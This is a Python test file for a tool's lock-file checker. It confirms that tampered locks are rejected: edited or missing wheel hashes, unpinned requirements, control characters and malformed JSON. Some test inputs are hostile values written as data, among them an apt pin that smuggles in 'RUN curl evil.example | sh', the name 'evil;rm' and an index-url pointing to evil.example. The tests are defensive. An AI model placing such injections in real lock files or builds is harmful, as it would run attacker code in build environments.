"""Lock files are untrusted input: every field is checked, and `lock --check` checks content."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from envkit.cli import app as cli_module
from envkit.image.build import plan_build
from envkit.lock import python as locks
from envkit.resources import images_dir

CATALOG_NAME = "resnet:2.8"


@pytest.fixture
def catalog(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A private copy of the catalog, so that a test can edit a lock."""
    root = tmp_path / "images"
    shutil.copytree(images_dir(), root)
    monkeypatch.setenv("ENVKIT_IMAGES_DIR", str(root))
    return root


def _lock_path(catalog: Path) -> Path:
    return catalog / "resnet" / "2.8.lock"


def _edit(catalog: Path, change) -> None:  # type: ignore[no-untyped-def]
    path = _lock_path(catalog)
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data, indent=2))


def _check() -> int:
    return cli_module.main(["lock", "--check", CATALOG_NAME])


def test_lock_check_passes_the_committed_lock(catalog: Path) -> None:
    assert _check() == 0


def test_lock_check_refuses_an_apt_pin_holding_a_shell_command(catalog: Path) -> None:
    def inject(data: dict) -> None:  # type: ignore[type-arg]
        name = sorted(data["apt"])[0]
        data["apt"][name] = data["apt"][name] + " \\\nRUN curl evil.example | sh #"

    _edit(catalog, inject)
    assert _check() == 2
    with pytest.raises(locks.LockError) as caught:
        plan_build(CATALOG_NAME, with_requirements=False)
    assert "apt" in str(caught.value)


@pytest.mark.parametrize("field", ["apt", "builder_apt"])
def test_lock_check_refuses_an_apt_name_outside_debian_grammar(catalog: Path, field: str) -> None:
    _edit(catalog, lambda data: data[field].update({"evil;rm": "1.0"}))
    assert _check() == 2


def _first_package(data: dict) -> str:  # type: ignore[type-arg]
    return sorted(data["packages"])[0]


def test_lock_check_refuses_an_edited_wheel_hash(catalog: Path) -> None:
    def edit(data: dict) -> None:  # type: ignore[type-arg]
        name = _first_package(data)
        old = data["packages"][name]["hashes"][0]
        data["packages"][name]["hashes"][0] = ("0" if old[0] != "0" else "1") + old[1:]

    _edit(catalog, edit)
    assert _check() == 5


def test_lock_check_refuses_a_removed_wheel_hash(catalog: Path) -> None:
    def edit(data: dict) -> None:  # type: ignore[type-arg]
        name = _first_package(data)
        for digest in data["packages"][name]["hashes"]:
            data["python_requirements"] = data["python_requirements"].replace(
                f"    --hash=sha256:{digest} \\\n", ""
            ).replace(f" \\\n    --hash=sha256:{digest}\n", "\n")
        data["packages"][name]["hashes"] = []

    _edit(catalog, edit)
    assert _check() == 5


def test_lock_check_refuses_a_short_wheel_hash(catalog: Path) -> None:
    def edit(data: dict) -> None:  # type: ignore[type-arg]
        name = _first_package(data)
        old = data["packages"][name]["hashes"][0]
        data["packages"][name]["hashes"][0] = old[:40]
        data["python_requirements"] = data["python_requirements"].replace(old, old[:40])

    _edit(catalog, edit)
    assert _check() == 5


def test_lock_check_refuses_a_lock_that_does_not_pin_a_spec_requirement(catalog: Path) -> None:
    def edit(data: dict) -> None:  # type: ignore[type-arg]
        text = data["python_requirements"]
        kept, skipping = [], False
        for line in text.splitlines(keepends=True):
            if line.startswith("torch=="):
                skipping = True
                continue
            if skipping and line.startswith(" "):
                continue
            skipping = False
            kept.append(line)
        data["python_requirements"] = "".join(kept)
        del data["packages"]["torch"]

    _edit(catalog, edit)
    assert _check() == 5


def test_lock_check_refuses_an_index_option_in_the_requirements_text(catalog: Path) -> None:
    _edit(catalog, lambda d: d.update(python_requirements="--index-url http://evil.example/\n" + d["python_requirements"]))
    assert _check() == 2


def test_lock_refuses_control_characters_anywhere(catalog: Path) -> None:
    _edit(catalog, lambda d: d["base"].update(suite="bookworm\x1b[2J"))
    assert _check() == 2


def test_lock_refuses_non_utf8_and_duplicate_keys_and_deep_nesting(tmp_path: Path) -> None:
    bad = tmp_path / "a.lock"
    bad.write_bytes(b'{"spec_digest": "\xff"}')
    with pytest.raises(locks.LockError) as caught:
        locks.read_lock(bad)
    assert caught.value.exit_code == 2 and str(bad) in str(caught.value)
    bad.write_text('{"spec_digest": "a", "spec_digest": "b"}')
    with pytest.raises(locks.IntegrityError, match="duplicate key"):
        locks.read_lock(bad)
    bad.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(locks.IntegrityError):
        locks.read_lock(bad)


@pytest.mark.parametrize(
    ("version", "ok"),
    [("1.2-3", True), ("1:2.36-9+deb12u7", True), ("3.11.2-1+b1", True), ("2.3~rc1", True),
     ("a1.0", False), ("1.0-", False), ("1.0\n", False), ("1.0 ", False), ("1.0;ls", False), ("", False)],
)
def test_debian_version_grammar(version: str, ok: bool) -> None:
    from envkit.lock import grammar

    if ok:
        assert grammar.check_debian_version(version) == version
    else:
        with pytest.raises(ValueError):
            grammar.check_debian_version(version)
